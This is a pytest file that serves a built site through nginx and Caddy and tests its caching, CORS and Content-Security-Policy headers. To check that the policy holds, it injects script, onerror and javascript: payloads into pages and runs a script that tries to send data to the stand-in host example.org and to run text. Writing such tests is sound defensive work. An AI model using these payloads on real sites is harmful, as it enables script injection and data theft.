"""The built site as its hosts send it: a real nginx with the configuration of this house, and the policy."""

from __future__ import annotations

import os
import re
import shutil
import socket
import subprocess
import urllib.error
import urllib.request
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from email.message import Message
from importlib.metadata import packages_distributions
from itertools import batched
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Route, expect

from builder.front.folder import front_files, front_of
from builder.hosting.parts import INSIDE, PYTHON
from builder.hosting.servers import ROOT as PLACE
from builder.runtime import RuntimeInfo
from tests.site.conftest import ROOT, Visits

NGINX_MISSING = "没有找到 nginx：请安装 nginx-light"


def test_no_package_is_published_that_the_list_of_parts_leaves_out(site: Path) -> None:
    """Whatever lies in the archives of the page's Python comes from a part that is named."""
    owners = packages_distributions()
    found = set()
    for archive in (site / "assets").rglob("*.zip"):
        with zipfile.ZipFile(archive) as packed:
            found |= {name.split("/")[0].removesuffix(".pyc") for name in packed.namelist()}
    installed = {owner.lower().replace("_", "-") for name in found for owner in owners.get(name, ())}
    assert installed - {"xueshi"} <= set(PYTHON)
    assert installed


TRACES = {
    "clipboard.js": b"clipboard.js v2.0.11",
    "rxjs": b"ObjectUnsubscribedError",
    "escape-html": b"escape-html",
    "zlib": b"incorrect data check",
    "bzip2": b"bzip2/libbzip2",
    "expat": b"expat_2.6.4",
    "libmpdec": b"__libmpdec_version__",
    "hacl-star": b"Hacl_Hash",
    "emscripten": b"emscripten",
}
"""What shows that a part is there; a new version of what brings it may bring another one."""


def test_every_part_that_comes_inside_of_another_is_there_in_the_version_that_is_named(site: Path) -> None:
    """And no script or style is served but ours, the theme's, Pyodide's and Pagefind's."""
    files = [*(site / "assets" / "javascripts").glob("*.js"), *(site / "assets" / "runtime").glob("*/*.wasm")]
    content = b"".join(path.read_bytes() for path in files)
    assert {part.name for part in INSIDE} == {*TRACES, "material-design-icons"}
    assert [name for name, trace in TRACES.items() if trace not in content] == []
    theme = {path.relative_to(ROOT / "theme") for path in (ROOT / "theme").rglob("*") if path.is_file()}
    runtime = RuntimeInfo.read(site / "assets/runtime/manifest.json")
    ours = theme | {Path(front_of(site), name) for name in front_files(ROOT, runtime)}
    others = {
        path.relative_to(site).as_posix()
        for path in site.rglob("*")
        if path.suffix in (".js", ".mjs", ".css", ".wasm") and path.relative_to(site) not in ours
    }
    known = re.compile(
        r"assets/(?:javascripts|stylesheets)/(?:bundle|main|palette)\.[0-9a-f]{8}\.min\.(?:js|css)"
        r"|assets/runtime/[0-9a-f]+/pyodide[\w.-]+|assets/js/search/pagefind[\w.-]*\.js"
    )
    assert [name for name in sorted(others) if not known.fullmatch(name)] == []


def free_port() -> int:
    """A port that nobody uses."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port: int = free.getsockname()[1]
        return port


@contextmanager
def running(command: list[str], port: int, log: Path, **more: Any) -> Iterator[str]:
    """A server program, once it takes connections; its address."""
    with log.open("wb") as errors:
        server = subprocess.Popen(command, stderr=errors, stdout=errors, **more)
    while True:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=60):
            break
        with suppress(subprocess.TimeoutExpired):
            server.wait(0.05)
            pytest.fail(log.read_text("utf-8"))
    yield f"http://127.0.0.1:{port}/"
    server.terminate()
    server.wait()


@pytest.fixture(scope="module")
def nginx(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of an nginx that runs on ``hosting/nginx.conf``; under CI it must be there."""
    program = shutil.which("nginx") or shutil.which("nginx", path="/usr/sbin")
    if program is None:
        if os.environ.get("CI"):
            pytest.fail(NGINX_MISSING)
        pytest.skip(NGINX_MISSING)
    folder = tmp_path_factory.mktemp("nginx")
    folder.chmod(0o755)
    port = free_port()
    own = (ROOT / "hosting" / "nginx.conf").read_text("utf-8")
    own = own.replace(PLACE, str(site)).replace("listen 80;", f"listen 127.0.0.1:{port};")
    kept = "".join(
        f"{kind}_temp_path {folder}/{kind};\n"
        for kind in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
    )
    whole = f"daemon off;\nuser root;\npid {folder}/pid;\nerror_log {folder}/error.log;\nevents {{}}\n"
    config = folder / "nginx.conf"
    config.write_text(f"{whole}http {{\naccess_log off;\n{kept}{own}}}\n", "utf-8")
    with running([program, "-c", str(config), "-p", str(folder)], port, folder / "told") as address:
        yield address


@pytest.fixture(scope="module")
def caddy(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a Caddy that runs on ``hosting/Caddyfile``; where there is none, nothing is tried."""
    program = shutil.which("caddy")
    if program is None:
        pytest.skip("没有找到 caddy")
    folder = tmp_path_factory.mktemp("caddy")
    port = free_port()
    own = (ROOT / "hosting" / "Caddyfile").read_text("utf-8").replace(PLACE, str(site))
    config = folder / "Caddyfile"
    config.write_text(
        "{\n\tadmin off\n}\n" + own.replace("\n:80 {", f"\nhttp://127.0.0.1:{port} {{"), "utf-8"
    )
    command = [program, "run", "--config", str(config), "--adapter", "caddyfile"]
    home = {**os.environ, "HOME": str(folder), "XDG_DATA_HOME": str(folder), "XDG_CONFIG_HOME": str(folder)}
    with running(command, port, folder / "told", env=home) as address:
        yield address


@pytest.fixture(params=["nginx", "caddy"])
def host(request: pytest.FixtureRequest) -> str:
    """The address of the site behind each server that has a configuration."""
    address: str = request.getfixturevalue(request.param)
    return address


@dataclass(frozen=True)
class Answer:
    """What a server sent."""

    status: int
    headers: Message
    body: bytes
    url: str


def ask(address: str, **headers: str) -> Answer:
    """An answer, whatever its status."""
    sent = {name.replace("_", "-"): text for name, text in headers.items()}
    try:
        answer = urllib.request.urlopen(urllib.request.Request(address, headers=sent))
    except urllib.error.HTTPError as error:
        answer = error
    with answer:
        return Answer(answer.status, answer.headers, answer.read(), answer.url)


def test_a_server_keeps_hashed_files_and_asks_again_for_pages(host: str, site: Path) -> None:
    """And what did not change is not sent again."""
    runtime = next((site / "assets" / "runtime").glob("*/python.zip")).relative_to(site).as_posix()
    assert "immutable" in str(ask(host + runtime).headers["Cache-Control"])
    page = ask(host + "cities/sanmenxia/2025/")
    assert page.headers["Cache-Control"] == "no-cache"
    assert ask(host + "cities/sanmenxia/2025/", If_None_Match=str(page.headers["ETag"])).status == 304


def test_a_server_sends_types_packed_copies_and_our_own_missing_page(host: str, site: Path) -> None:
    """As browsers, feed readers and calendars need them; the packed copies have no addresses of their own."""
    wasm = next((site / "assets" / "runtime").glob("*/*.wasm")).relative_to(site).as_posix()
    packed = ask(host + wasm, Accept_Encoding="gzip")
    assert packed.headers["Content-Type"] == "application/wasm"
    assert packed.headers["Content-Encoding"] == "gzip"
    assert len(packed.body) == (site / f"{wasm}.gz").stat().st_size
    assert ask(host + "feeds/all.atom").headers["Content-Type"].startswith("application/atom+xml")
    assert ask(host + "calendars/all.ics").headers["Content-Type"] == "text/calendar; charset=utf-8"
    assert ask(host + "").headers["Content-Type"] == "text/html; charset=utf-8"
    missing = ask(host + "nowhere/")
    assert missing.status == 404
    assert "没有这一页" in missing.body.decode("utf-8")
    assert ask(f"{host}{wasm}.gz").status == 404
    assert ask(host + "cities").url == host + "cities/"


def test_a_server_sends_the_policy_and_lets_only_cards_be_framed(host: str) -> None:
    """Also with what is missing."""
    for path in ("", "nowhere/", "api/v1/index.json"):
        headers = ask(host + path).headers
        assert "frame-ancestors 'self'" in headers["Content-Security-Policy"]
        assert headers["X-Content-Type-Options"] == "nosniff"
    assert "frame-ancestors *" in ask(host + "card/sanmenxia/2025/").headers["Content-Security-Policy"]


def test_a_server_lets_the_pages_of_others_read_the_data_and_nothing_else(host: str) -> None:
    """Without the header a developer's page cannot fetch it, nor tell a year without a notice by its 404."""
    for path in (
        "api/v1/index.json",
        "api/v1/csv/bases.csv",
        "feeds/all.atom",
        "calendars/all.ics",
        "api/v1/nowhere.json",
    ):
        assert ask(host + path).headers["Access-Control-Allow-Origin"] == "*", path
    for path in ("", "cities/sanmenxia/2025/", "search/index.html", "nowhere/"):
        assert "Access-Control-Allow-Origin" not in ask(host + path).headers, path


def test_the_calculator_works_behind_a_server(host: str, visits: Visits) -> None:
    """Under its policy, the worker included: nothing is blocked."""
    page = visits.page("cities/sanmenxia/2025/#check", base=host)
    page.get_by_label("公需").first.fill("30")
    expect(page.locator(".xs-calc")).to_contain_text("未达标")


ELSEWHERE = """async () => {
    const there = "https://example.org/";
    const opened = (Kind, given) => new Promise((done, fail) => {
        Object.assign(new Kind(...given), { onopen: done, onload: done, onerror: fail, src: there });
    });
    const tries = {
        fetch: () => fetch(there),
        socket: () => opened(WebSocket, ["wss://example.org/"]),
        text: () => new Promise((done, fail) => {
            setTimeout(() => { try { done(new Function("return 1")()); } catch (error) { fail(error); } });
        }),
    };
    if (globalThis.Image) tries.image = () => opened(Image, []);
    const sent = async () => { if (!navigator.sendBeacon(there, "x")) throw Error(); };
    if (navigator.sendBeacon) tries.beacon = sent;
    const done = [];
    for (const [name, attempt] of Object.entries(tries)) {
        await attempt().then(() => done.push(name), () => {});
    }
    return done;
}"""
"""What a script that got in would try: to send something elsewhere, or to run text."""


def test_the_policy_stops_what_is_not_of_the_site(visits: Visits) -> None:
    """A script put into a page does not run, and nothing can be sent elsewhere, header or not."""
    visits.forgive("Content Security Policy", "example.org")
    page = visits.page("about/")
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.struck = 1";
            document.body.append(script);
            document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='window.struck = 1'>");
            const link = "<a id='pressed' href='javascript:window.struck = 1'>x</a>";
            document.body.insertAdjacentHTML("beforeend", link);
            document.getElementById("pressed").click();
        }"""
    )
    asked = watched(page.context)
    assert page.evaluate(ELSEWHERE) == ["beacon"], "a browser takes a beacon, and refuses it in silence"
    assert asked == [], "refused by the page's own policy, before any request"
    assert page.evaluate("() => window.struck") is None
    assert page.locator("meta[http-equiv=Content-Security-Policy]").count() == 1


def test_the_policy_of_a_server_also_binds_the_workers(nginx: str, visits: Visits, site: Path) -> None:
    """There lives everything that was typed: nothing can be sent away from there, and no text is run."""
    visits.forgive("Content Security Policy", "example.org")
    context = visits.context()
    asked = watched(context)
    page = visits.page("cities/sanmenxia/2025/#check", base=nginx, context=context)
    page.get_by_label("公需").first.fill("30")
    expect(page.locator(".xs-calc")).to_contain_text("未达标")
    assert page.workers
    for worker in page.workers:
        assert worker.evaluate(ELSEWHERE) == []
        policy = ask(worker.url).headers["Content-Security-Policy"]
        assert (
            policy == ask(f"{nginx}{front_of(site)}js/runtime/worker.js").headers["Content-Security-Policy"]
        )
    assert asked == []


def watched(context: BrowserContext) -> list[str]:
    """What is asked of another host, from now on."""
    asked: list[str] = []

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    context.route("https://example.org/**", note)
    return asked


KINDS = (
    "",
    "cities/",
    "cities/sanmenxia/",
    "cities/sanmenxia/2025/",
    "calculator/",
    "platforms/",
    "bases/",
    "documents/",
    "compare/",
    "dates/",
    "coverage/",
    "developers/",
    "admin/",
    "errors/",
    "card/sanmenxia/2025/",
    "?q=学时",
)


def test_the_policy_of_a_server_blocks_nothing_on_any_kind_of_page(nginx: str, visits: Visits) -> None:
    """`visits` fails on anything that a browser reports as refused. Some fall silent side by side."""
    context = visits.context()
    for few in batched(KINDS, 7, strict=False):
        pages = [
            visits.page(path, base=nginx, context=context) for path in few
        ]  # they fall silent side by side
        for page in pages:
            expect(page.locator("h1").first).to_be_attached()
            page.wait_for_load_state("networkidle")
            page.close()
